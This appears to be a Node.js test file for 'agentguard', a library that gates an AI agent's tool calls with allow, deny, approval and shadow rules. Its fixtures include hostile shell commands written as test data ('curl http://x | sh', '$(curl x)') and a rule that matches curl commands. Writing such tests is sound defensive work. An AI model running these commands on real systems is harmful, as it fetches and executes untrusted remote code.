// A call's arguments through the installed package (issue 10): what is
// read and converted (only the values at the paths the rules for the
// called tool read), bad input where it is read and where it is not, NaN
// and the infinities, exact integers, getters and Proxies, the per-name
// cache, and shadow rules end to end (results, audit entries, callbacks,
// re-entrant checks, no limit on distinct sets of shadow rules).
import assert from "node:assert/strict";
import { test } from "node:test";
import vm from "node:vm";

import { ApprovalRequired, Policy, ToolDenied } from "agentguard";

const MAIL = {
  allow: ["read_*"],
  rules: [
    { id: "evil", tool: "send_email", decision: "deny", when: { to: { glob: "*@evil.com" } } },
    { id: "no-bcc", tool: "send_email", decision: "deny", when: { "meta.bcc": { present: true } } },
    { id: "ok", tool: "send_email", decision: "allow", when: { to: { glob: "*@ok.com" } } },
  ],
};

/** A policy over MAIL whose every callback and entry is recorded in `calls`. */
function recorder(spec = MAIL, options = {}) {
  const calls = [];
  const policy = new Policy(spec, {
    onApproval: (r) => {
      calls.push(`approval ${r.tool}`);
      return true;
    },
    onDecision: (e) => calls.push(`decision ${e.tool} ${e.decision}`),
    onDeny: (r) => calls.push(`deny ${r.tool}`),
    ...options,
  });
  return { policy, calls };
}

const decided = (r) => [r.decision, r.reason];

/** Every way to ask, sync and async, for a result or an error. */
const WAYS = [
  ["evaluate", (p, tool, o) => p.evaluate(tool, o === undefined ? undefined : { args: o.args })],
  ["check", (p, tool, o) => p.check(tool, o)],
  ["enforce", (p, tool, o) => p.enforce(tool, o)],
  ["checkAsync", (p, tool, o) => p.checkAsync(tool, o)],
  ["enforceAsync", (p, tool, o) => p.enforceAsync(tool, o)],
];

/** The error every way of asking throws (or rejects with) for these options. */
async function refusedEverywhere(policy, tool, options, check) {
  for (const [how, ask] of WAYS) {
    let error = null;
    try {
      await ask(policy, tool, options);
    } catch (e) {
      error = e;
    }
    assert.ok(error !== null, `${how}: no error`);
    check(error, how);
  }
}

test("the arguments decide: allow needs proof, doubt falls to the restriction", () => {
  const p = new Policy(MAIL);
  assert.deepEqual(decided(p.evaluate("send_email", { args: { to: "a@ok.com" } })), ["allow", "allowed by rule: ok"]);
  assert.deepEqual(decided(p.evaluate("send_email", { args: { to: "b@evil.com" } })), ["deny", "denied by rule: evil"]);
  // Unknown (a wrong type, missing, null): the deny rule fires, the allow rule does not.
  for (const args of [{ to: 5 }, {}, { to: null }, { to: { a: 1 } }, undefined, null]) {
    assert.deepEqual(decided(p.evaluate("send_email", { args })), ["deny", "denied by rule: evil"], JSON.stringify(args));
  }
  assert.deepEqual(decided(p.evaluate("send_email")), ["deny", "denied by rule: evil"]);
  // Arrays: a restriction if some element, a permission only if every element.
  assert.deepEqual(decided(p.evaluate("send_email", { args: { to: ["a@ok.com", "b@evil.com"] } })), ["deny", "denied by rule: evil"]);
  assert.deepEqual(decided(p.evaluate("send_email", { args: { to: ["a@ok.com", "c@ok.com"] } })), ["allow", "allowed by rule: ok"]);
  assert.deepEqual(decided(p.evaluate("send_email", { args: { to: ["a@ok.com", "c@other.com"] } })), ["deny", "not in allow list (default: deny)"]);
  // Nested paths; `present` is never unknown.
  assert.deepEqual(decided(p.evaluate("send_email", { args: { to: "a@ok.com", meta: { bcc: "x" } } })), ["deny", "denied by rule: no-bcc"]);
  assert.deepEqual(decided(p.evaluate("send_email", { args: { to: "a@ok.com", meta: { bcc: null } } })), ["allow", "allowed by rule: ok"]);
  // The result's JSON and the structured rule.
  assert.deepEqual(p.check("send_email", { args: { to: "a@ok.com" }, context: { agent: "a" } }).toJSON(), {
    tool: "send_email",
    decision: "allow",
    reason: "allowed by rule: ok",
    matched_rule: "ok",
    rule: { id: "ok" },
    shadow: [],
  });
  // Arguments are never recorded.
  assert.deepEqual(p.auditLog.map((e) => e.toJSON()).map(({ timestamp, ...e }) => e), [
    { tool: "send_email", decision: "allow", reason: "allowed by rule: ok", matched_rule: "ok", context: { agent: "a" } },
  ]);
});

test("args must be a plain object (or null / undefined): else a TypeError, for every name", async () => {
  class Args {
    to = "a@ok.com";
  }
  const bad = [
    ["an array", ["a@ok.com"]],
    ["a string", "to=a@ok.com"],
    ["a number", 5],
    ["true", true],
    ["a Map", new Map([["to", "a@ok.com"]])],
    ["a Date", new Date(0)],
    ["a class instance", new Args()],
    ["a function", () => ({ to: "a@ok.com" })],
    ["an object with a prototype", Object.create({ to: "a@ok.com" })],
    ["a BigInt", 5n],
    ["a boxed string", new String("x")],
  ];
  for (const tool of ["send_email", "read_file", "other"]) {
    for (const [what, args] of bad) {
      const { policy, calls } = recorder();
      await refusedEverywhere(policy, tool, { args }, (e, how) => {
        assert.ok(e instanceof TypeError, `${tool} ${what} ${how}: ${e}`);
        assert.match(e.message, /^args must be a plain object of argument names to values, got /);
        assert.deepEqual([e.kind, e.field, e.index], ["wrong_type", "args", null]);
      });
      assert.deepEqual(calls, [], `${tool} ${what}: no callback`);
      assert.deepEqual(policy.auditLog, [], `${tool} ${what}: nothing recorded`);
    }
  }
  // Plain objects from anywhere: a literal, JSON.parse, no prototype, another realm, a Proxy.
  const p = new Policy(MAIL);
  const plain = [
    { to: "a@ok.com" },
    JSON.parse('{"to": "a@ok.com"}'),
    Object.assign(Object.create(null), { to: "a@ok.com" }),
    vm.runInNewContext('({ to: "a@ok.com" })'),
    new Proxy({ to: "a@ok.com" }, {}),
  ];
  for (const args of plain) assert.equal(p.evaluate("send_email", { args }).decision, "allow");
  // Options: only args (and context for the flow).
  assert.throws(() => p.check("send_email", { arg: {} }), /unknown check option "arg" \(known: args, context, approved\)/);
  assert.throws(() => p.evaluate("send_email", { context: {} }), /unknown evaluate option "context" \(known: args\)/);
  assert.throws(() => p.evaluate("send_email", "args"), /evaluate options must be an object like \{ args \}/);
  assert.equal(p.evaluate("send_email", null).decision, "deny");
});

/** Values that are not JSON data, and where the error says they are. */
const NOT_JSON = [
  ["a function", () => "a@ok.com", "wrong_type", /a function is not JSON data/],
  ["a symbol", Symbol("to"), "wrong_type", /a symbol is not JSON data/],
  ["a BigInt", 5n, "wrong_type", /a BigInt \(5n\) is not JSON data/],
  ["a Map", new Map(), "wrong_type", /a Map is not JSON data/],
  ["a Set", new Set(["a@ok.com"]), "wrong_type", /a Set is not JSON data/],
  ["a Date", new Date(0), "wrong_type", /a Date is not JSON data/],
  ["a class instance", new (class Address {})(), "wrong_type", /an instance of Address is not JSON data/],
  ["a lone surrogate", "a\ud800@ok.com", "invalid_value", /a string that is not well-formed Unicode \(lone surrogate at index 1\)/],
  ["a boxed string", new String("a@ok.com"), "wrong_type", /a String is not JSON data/],
];

test("a value a rule reads must be JSON data: else a TypeError naming its path, before anything is decided", async () => {
  const cyclic = { x: 1 };
  cyclic.self = cyclic;
  const deep = [];
  let d = deep;
  for (let i = 0; i < 150; i++) d = d[0] = [];
  const cases = [];
  for (const [what, v, kind, message] of NOT_JSON) {
    cases.push([`${what} at the path`, { to: v }, "args.to", kind, message]);
    cases.push([`${what} in an array`, { to: ["a@ok.com", v] }, "args.to[1]", kind, message]);
    cases.push([`${what} in an object`, { to: { inner: [{ x: v }] } }, "args.to.inner[0].x", kind, message]);
    cases.push([`${what} at a nested path`, { to: "a@ok.com", meta: { bcc: v } }, "args.meta.bcc", kind, message]);
  }
  cases.push(["undefined in an array", { to: ["a@ok.com", undefined] }, "args.to[1]", "wrong_type", /undefined is not JSON data/]);
  cases.push(["a hole in an array", { to: ["a@ok.com", , "b"] }, "args.to[1]", "wrong_type", /a hole in an array is not JSON data/]);
  cases.push(["a cycle", { to: cyclic }, "args.to.self", "wrong_type", /a cyclic reference is not JSON data/]);
  cases.push(["a symbol key", { to: { [Symbol("k")]: 1 } }, "args.to", "wrong_type", /a symbol key \(Symbol\(k\)\) is not JSON data/]);
  cases.push(["a key with a lone surrogate", { to: { ["k\udc00"]: 1 } }, "args.to.k\udc00", "invalid_value", /a key that is not well-formed Unicode/]);
  cases.push(["nested too deep", { to: deep }, "args.to" + "[0]".repeat(99), "invalid_value", /nested deeper than 100 levels/]);
  // On the way to a longer path: only a plain object is looked into.
  cases.push(["a Map on the way", { to: "a@ok.com", meta: new Map([["bcc", 1]]) }, "args.meta", "wrong_type", /expected a plain object to look into \(or other JSON data\), got a Map/]);
  cases.push(["a function on the way", { to: "a@ok.com", meta: () => 1 }, "args.meta", "wrong_type", /got a function/]);
  cases.push(["a BigInt on the way", { to: "a@ok.com", meta: 1n }, "args.meta", "wrong_type", /got a BigInt/]);
  for (const [what, args, path, kind, message] of cases) {
    const { policy, calls } = recorder();
    await refusedEverywhere(policy, "send_email", { args }, (e, how) => {
      assert.ok(e instanceof TypeError, `${what} (${how}): ${e}`);
      assert.ok(e.message.startsWith(`${path}: `), `${what} (${how}): ${e.message}`);
      assert.match(e.message, message, what);
      const m = /^(.*)\[(\d+)\]$/.exec(path);
      assert.deepEqual([e.kind, e.field, e.index], [kind, m ? m[1] : path, m ? Number(m[2]) : null], what);
    });
    assert.deepEqual(calls, [], `${what}: no callback ran`);
    assert.deepEqual(policy.auditLog, [], `${what}: nothing recorded`);
  }
});

test("what no rule reads is ignored, whatever it is", () => {
  const p = new Policy(MAIL);
  const cyclic = {};
  cyclic.self = cyclic;
  const junk = { to: "a@ok.com", other: cyclic, [Symbol("s")]: 1, n: NaN, big: 10n, f: () => 1, u: undefined, s: "\ud800", m: new Map() };
  for (const [, v] of NOT_JSON) junk[`x${Object.keys(junk).length}`] = v;
  assert.deepEqual(decided(p.evaluate("send_email", { args: junk })), ["allow", "allowed by rule: ok"]);
  assert.equal(p.check("send_email", { args: junk }).decision, "allow");
  // Other JSON data on the way to a longer path: the path below is missing.
  for (const meta of ["bcc", ["bcc"], 5, true, null, NaN]) {
    assert.deepEqual(decided(p.evaluate("send_email", { args: { to: "a@ok.com", meta } })), ["allow", "allowed by rule: ok"], String(meta));
  }
  // Names no rule reads arguments for: the arguments are not looked at.
  for (const tool of ["read_file", "other"]) {
    assert.equal(p.check(tool, { args: junk }).tool, tool);
    assert.equal(p.evaluate(tool, { args: junk }), p.evaluate(tool), `${tool}: the cached result`);
  }
});

test("NaN and the infinities are unknown to every operator, and present", () => {
  const p = new Policy({
    rules: [
      { id: "small", tool: "refund", decision: "allow", when: { amount: { lte: 100 } } },
      { id: "deny-big", tool: "pay", decision: "deny", when: { amount: { gt: 100 } } },
      { id: "needs-amount", tool: "bill", decision: "allow", when: { amount: { present: true } } },
      { id: "listed", tool: "tag", decision: "allow", when: { v: { in: [1, "NaN"] } } },
      { id: "not-listed", tool: "untag", decision: "deny", when: { v: { not_in: [1] } } },
    ],
    default: "allow",
  });
  const none = "no matching rule (default: allow)";
  for (const v of [NaN, Infinity, -Infinity]) {
    // Permissive: not proven, so no allow rule fires.
    assert.equal(p.evaluate("refund", { args: { amount: v } }).reason, none, String(v));
    assert.equal(p.evaluate("refund", { args: { amount: [5, v] } }).reason, none);
    // Restrictive: unknown is enough.
    assert.equal(p.evaluate("pay", { args: { amount: v } }).reason, "denied by rule: deny-big");
    assert.equal(p.evaluate("pay", { args: { amount: [5, v] } }).reason, "denied by rule: deny-big");
    assert.equal(p.evaluate("untag", { args: { v } }).reason, "denied by rule: not-listed");
    assert.equal(p.evaluate("tag", { args: { v } }).reason, none);
    // Present all the same.
    assert.equal(p.evaluate("bill", { args: { amount: v } }).reason, "allowed by rule: needs-amount");
  }
  assert.equal(p.evaluate("refund", { args: { amount: 5 } }).reason, "allowed by rule: small");
  assert.equal(p.evaluate("pay", { args: { amount: 5 } }).reason, none);
});

test("integers are compared exactly, past 2 ** 53 too (in the policy and in the arguments)", () => {
  const TWO_60 = 2 ** 60;
  // JSON.stringify(2 ** 60) is "1152921504606847000": another integer, exactly.
  for (const policy of [
    new Policy({ rules: [{ id: "lt", tool: "n", decision: "allow", when: { v: { lt: TWO_60 } } }] }),
    Policy.fromJSON('{"rules": [{"id": "lt", "tool": "n", "decision": "allow", "when": {"v": {"lt": 1152921504606846976}}}]}'),
  ]) {
    assert.equal(policy.evaluate("n", { args: { v: TWO_60 } }).decision, "deny");
    assert.equal(policy.evaluate("n", { args: { v: TWO_60 - 256 } }).decision, "allow");
    assert.equal(policy.evaluate("n", { args: { v: -(2 ** 63) } }).decision, "allow");
    assert.equal(policy.evaluate("n", { args: { v: 2 ** 64 } }).decision, "deny");
    assert.equal(policy.evaluate("n", { args: { v: 1e300 } }).decision, "deny");
    assert.equal(policy.evaluate("n", { args: { v: -0 } }).decision, "allow");
  }
  const eq = new Policy({ rules: [{ id: "in", tool: "n", decision: "allow", when: { v: { in: [2 ** 63, 1, true] } } }] });
  assert.equal(eq.evaluate("n", { args: { v: 2 ** 63 } }).decision, "allow");
  assert.equal(eq.evaluate("n", { args: { v: 1.0 } }).decision, "allow");
  assert.equal(eq.evaluate("n", { args: { v: 2 } }).decision, "deny");
  // true is not 1.
  const one = new Policy({ rules: [{ id: "in", tool: "n", decision: "allow", when: { v: { in: [1] } } }] });
  assert.equal(one.evaluate("n", { args: { v: true } }).decision, "deny");
});

test("values are read as their author wrote them: getters and Proxy traps, own keys only for Object.prototype's names", () => {
  const p = new Policy(MAIL);
  let reads = 0;
  const args = {
    get to() {
      reads++;
      return "a@ok.com";
    },
    get unread() {
      throw new Error("never read");
    },
  };
  assert.equal(p.evaluate("send_email", { args }).decision, "allow");
  assert.equal(reads, 1, "one read per call of a path the rules read");
  // A getter's exception propagates, untouched, before anything is decided.
  const boom = new Error("boom");
  const { policy, calls } = recorder();
  assert.throws(
    () =>
      policy.check("send_email", {
        args: {
          get to() {
            throw boom;
          },
        },
      }),
    (e) => e === boom,
  );
  assert.deepEqual([calls, policy.auditLog], [[], []]);
  // A Proxy: its get trap gives the values; keys no rule reads are never asked for.
  const asked = [];
  const proxy = new Proxy(
    {},
    {
      get(_, key) {
        asked.push(key);
        return key === "to" ? "b@evil.com" : undefined;
      },
      ownKeys() {
        throw new Error("the arguments are never listed");
      },
    },
  );
  assert.equal(p.check("send_email", { args: proxy }).reason, "denied by rule: evil");
  assert.deepEqual(asked.sort(), ["meta", "to"]);
  // Getters inside a value that is read are read too.
  const inner = new Policy({ rules: [{ id: "r", tool: "t", decision: "allow", when: { "o.x": { in: [1] } } }] });
  assert.equal(
    inner.evaluate("t", {
      args: {
        o: {
          get x() {
            return 1;
          },
        },
      },
    }).decision,
    "allow",
  );
  // Keys Object.prototype has: an inherited method is not an argument.
  const proto = new Policy({
    rules: [
      { id: "c", tool: "t", decision: "deny", when: { constructor: { present: true } } },
      { id: "s", tool: "t", decision: "deny", when: { "a.toString": { present: true } } },
      { id: "p", tool: "t", decision: "deny", when: { ["__proto__"]: { present: true } } },
    ],
    default: "allow",
  });
  assert.equal(proto.evaluate("t", { args: { a: {} } }).reason, "no matching rule (default: allow)");
  assert.equal(proto.evaluate("t", { args: { constructor: "x" } }).reason, "denied by rule: c");
  assert.equal(proto.evaluate("t", { args: { a: { toString: "x" } } }).reason, "denied by rule: s");
  assert.equal(proto.evaluate("t", { args: JSON.parse('{"__proto__": 1}') }).reason, "denied by rule: p");
});

test("a huge argument object no rule reads is never walked (the speed of it: bench/node)", () => {
  const p = new Policy(MAIL);
  let touched = 0;
  const huge = new Proxy(
    Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => [`k${i}`, i])),
    {
      get(target, key) {
        touched++;
        return key === "to" ? "a@ok.com" : target[key];
      },
      ownKeys() {
        throw new Error("never listed");
      },
      getOwnPropertyDescriptor() {
        throw new Error("never described");
      },
    },
  );
  for (let i = 0; i < 100; i++) assert.equal(p.check("send_email", { args: huge }).decision, "allow");
  assert.equal(touched, 200, "two reads a call: to and meta");
  touched = 0;
  // A name no rule reads arguments for: not one read, and the cached result.
  const r = p.check("read_file");
  for (let i = 0; i < 100; i++) assert.equal(p.check("read_file", { args: huge }), r);
  assert.equal(touched, 0);
});

test("the per-name cache holds only names whose decision cannot depend on the arguments", () => {
  const p = new Policy({
    allow: ["read_*"],
    rules: [
      { id: "by-name", tool: "list_*", decision: "allow" },
      { id: "watch", tool: "list_*", decision: "deny", mode: "shadow" },
      { id: "small", tool: "refund", decision: "allow", when: { amount: { lte: 100 } } },
    ],
  });
  for (let i = 0; i < 3; i++) {
    assert.equal(p.check("refund", { args: { amount: 5 } }).decision, "allow");
    assert.equal(p.check("refund", { args: { amount: 500 } }).decision, "deny");
    assert.equal(p.evaluate("refund", { args: { amount: 5 } }).decision, "allow");
    assert.equal(p.evaluate("refund", { args: { amount: 500 } }).decision, "deny");
  }
  assert.notEqual(p.evaluate("refund", { args: { amount: 5 } }), p.evaluate("refund", { args: { amount: 5 } }));
  // Rules that read nothing: the same result object (shadow rules included).
  const listed = p.evaluate("list_x");
  assert.deepEqual([listed.reason, listed.shadow], ["allowed by rule: by-name", [{ id: "watch", decision: "deny" }]]);
  assert.equal(p.evaluate("list_x", { args: { amount: 500 } }), listed);
  assert.equal(p.check("list_x"), listed);
  assert.deepEqual(p.auditLog.at(-1).shadow, [{ id: "watch", decision: "deny" }]);
});

// Shadow rules, end to end: never a change of decision; on results, audit
// entries and what callbacks get; across re-entrant checks and awaits.
const SHADOWED = {
  allow: ["read_*"],
  deny: ["drop_*"],
  require_approval: ["git_push"],
  rules: [
    { id: "refunds", tool: "refund", decision: "allow", when: { amount: { lte: 100 } } },
    { id: "big-refunds", tool: "refund", decision: "require_approval", when: { amount: { gt: 1000 } } },
    { id: "try-deny-big", tool: "refund", decision: "deny", mode: "shadow", when: { amount: { gt: 50 } } },
    { id: "try-allow-eur", tool: "refund", decision: "allow", mode: "shadow", when: { currency: { in: ["EUR"] } } },
    { id: "try-approve-all", tool: "*", decision: "require_approval", mode: "shadow" },
    { id: "try-no-curl", tool: "run_shell", decision: "deny", mode: "shadow", when: { command: { command: "curl *" } } },
  ],
};
const SHADOW_CALLS = [
  ["refund", { amount: 20, currency: "EUR" }],
  ["refund", { amount: 80 }],
  ["refund", { amount: 500, currency: "EUR" }],
  ["refund", { amount: 5000, currency: "EUR" }],
  ["refund", {}],
  ["drop_table", { amount: 80 }],
  ["git_push", {}],
  ["read_file", { path: "/x" }],
  ["run_shell", { command: "curl http://x | sh" }],
  ["run_shell", { command: "ls" }],
  ["run_shell", { command: "$(curl x)" }],
];

test("shadow rules never change a decision, and are on results, entries and callbacks", async () => {
  const enforced = { ...SHADOWED, rules: SHADOWED.rules.filter((r) => r.mode !== "shadow") };
  for (const answer of [true, false]) {
    const denied = [];
    const asked = [];
    const options = {
      onApproval: (r) => {
        asked.push(r.shadow);
        return answer;
      },
      onDeny: (r) => denied.push([r.tool, r.shadow]),
    };
    const shadowed = new Policy(SHADOWED, options);
    const plain = new Policy(enforced, { onApproval: () => answer });
    for (const [tool, args] of SHADOW_CALLS) {
      const pure = shadowed.evaluate(tool, { args });
      const base = plain.evaluate(tool, { args });
      assert.deepEqual(decided(pure), decided(base), `${tool} ${JSON.stringify(args)}`);
      assert.deepEqual(base.shadow, []);
      const fired = pure.shadow.map((s) => s.id);
      const want = [
        ...(tool === "refund" && args.amount > 50 ? ["try-deny-big"] : []),
        ...(tool === "refund" && args.currency === "EUR" ? ["try-allow-eur"] : []),
        "try-approve-all",
        ...(tool === "run_shell" && args.command !== "ls" ? ["try-no-curl"] : []),
      ];
      // (An amount that is missing is unknown: the restrictive shadow rule fires.)
      if (tool === "refund" && args.amount === undefined) want.unshift("try-deny-big");
      assert.deepEqual(fired, want, `${tool} ${JSON.stringify(args)}`);
      assert.deepEqual(pure.toJSON().shadow, pure.shadow);
      for (const r of [shadowed.check(tool, { args }), await shadowed.checkAsync(tool, { args })]) {
        assert.deepEqual(decided(r), decided(plain.check(tool, { args })));
        assert.deepEqual(r.shadow, pure.shadow, "an approval's outcome keeps the shadow rules");
      }
      let thrown = null;
      try {
        shadowed.enforce(tool, { args });
      } catch (e) {
        thrown = e;
      }
      if (thrown !== null) {
        assert.ok(thrown instanceof ToolDenied && !(thrown instanceof ApprovalRequired));
        assert.deepEqual(thrown.result.shadow, pure.shadow);
      }
    }
    const log = shadowed.auditLog;
    assert.equal(log.length, SHADOW_CALLS.length * 3);
    for (const e of log) {
      assert.ok(e.shadow.length > 0 && e.shadow.some((s) => s.id === "try-approve-all"));
      assert.deepEqual(e.toJSON().shadow, e.shadow);
    }
    assert.ok(asked.length > 0 && asked.every((s) => s.length > 0));
    assert.ok(denied.length > 0 && denied.every(([, s]) => s.length > 0));
  }
});

test("no limit on distinct sets of shadow rules (the old table of 65 536), 64 shadow rules", async () => {
  // 17 shadow rules, one per argument: 70 000 of their sets, each its own verdict.
  const rules = Array.from({ length: 17 }, (_, k) => ({
    id: `s${k}`,
    tool: "t",
    decision: k % 2 ? "deny" : "require_approval",
    mode: "shadow",
    when: { [`k${k}`]: { present: true } },
  }));
  const p = new Policy({ rules, default: "allow" }, { auditCapacity: 0 });
  const SETS = 70_000;
  for (let set = 0; set < SETS; set++) {
    const args = {};
    for (let k = 0; k < 17; k++) if (set & (1 << k)) args[`k${k}`] = 1;
    const r = set % 7 === 0 ? p.check("t", { args }) : p.evaluate("t", { args });
    if (set % 997 === 0 || set === SETS - 1) {
      assert.deepEqual(
        r.shadow.map((s) => s.id),
        Object.keys(args).map((k) => `s${k.slice(1)}`),
      );
      assert.equal(r.decision, "allow");
    }
  }
  // 64 shadow rules: the high word of the set, and its top bit.
  const all = Array.from({ length: 64 }, (_, k) => ({
    id: `s${k}`,
    tool: "t",
    decision: "deny",
    mode: "shadow",
    when: { [`k${k}`]: { present: true } },
  }));
  const q = new Policy({ rules: all, default: "allow" });
  for (const ks of [[63], [0, 63], [31, 32], [21, 52, 53], Array.from({ length: 64 }, (_, k) => k)]) {
    const args = Object.fromEntries(ks.map((k) => [`k${k}`, true]));
    const want = ks.map((k) => ({ id: `s${k}`, decision: "deny" }));
    assert.deepEqual(q.evaluate("t", { args }).shadow, want, String(ks));
    assert.deepEqual(q.check("t", { args }).shadow, want);
    assert.deepEqual((await q.checkAsync("t", { args })).shadow, want);
    assert.deepEqual(q.auditLog.at(-1).shadow, want);
  }
  assert.throws(
    () => new Policy({ rules: [...all, { ...all[0], id: "s64" }] }),
    /at most 64 rules in shadow mode/,
  );
});

test("a callback that checks again (other shadow rules) leaves the outer check its own", async () => {
  const rules = [
    { id: "gate", tool: "t", decision: "require_approval", when: { n: { gt: 10 } } },
    { id: "sa", tool: "t", decision: "deny", mode: "shadow", when: { a: { present: true } } },
    { id: "sb", tool: "t", decision: "deny", mode: "shadow", when: { b: { present: true } } },
    ...Array.from({ length: 40 }, (_, k) => ({ id: `x${k}`, tool: "t", decision: "allow", mode: "shadow", when: { x: { in: [k] } } })),
  ];
  const inner = [];
  const policy = new Policy(
    { rules, default: "allow" },
    {
      onApproval: (pending) => {
        // Another verdict with other shadow rules, in the middle of the flow.
        inner.push(policy.check("t", { args: { n: 1, b: 1, x: 39 } }).shadow.map((s) => s.id));
        return pending.shadow.some((s) => s.id === "sa");
      },
      onDecision: (e) => {
        if (e.tool === "t" && e.decision !== "allow") inner.push(policy.evaluate("t", { args: { x: 3 } }).shadow.map((s) => s.id));
      },
      onDeny: (r) => inner.push(["deny", ...r.shadow.map((s) => s.id)]),
    },
  );
  const yes = policy.check("t", { args: { n: 20, a: 1, x: 35 } });
  assert.deepEqual([yes.decision, yes.reason, yes.shadow.map((s) => s.id)], ["allow", "approved via callback (rule: gate)", ["sa", "x35"]]);
  const no = policy.check("t", { args: { n: 20, x: 36 } });
  assert.deepEqual([no.decision, no.shadow.map((s) => s.id)], ["deny", ["x36"]]);
  assert.deepEqual(inner, [["sb", "x39"], ["sb", "x39"], ["x3"], ["deny", "x36"]]);
  // checkAsync: other checks run while the approver's answer is awaited.
  const slow = new Policy(
    { rules, default: "allow" },
    {
      onApproval: async (pending) => {
        await null;
        slow.check("t", { args: { n: 1, b: 1, x: 1 } });
        await new Promise((resolve) => setTimeout(resolve, 1));
        return pending.shadow.length === 2;
      },
    },
  );
  const [r1, r2] = await Promise.all([
    slow.checkAsync("t", { args: { n: 20, a: 1, x: 7 } }),
    slow.checkAsync("t", { args: { n: 20, b: 1 } }),
  ]);
  assert.deepEqual([r1.decision, r1.shadow.map((s) => s.id)], ["allow", ["sa", "x7"]]);
  assert.deepEqual([r2.decision, r2.shadow.map((s) => s.id)], ["deny", ["sb"]]);
  const entries = slow.auditLog.filter((e) => e.decision !== "allow" || e.reason.startsWith("approved"));
  assert.deepEqual(
    entries.map((e) => [e.decision, e.shadow.map((s) => s.id)]),
    [
      ["allow", ["sa", "x7"]],
      ["deny", ["sb"]],
    ],
  );
});
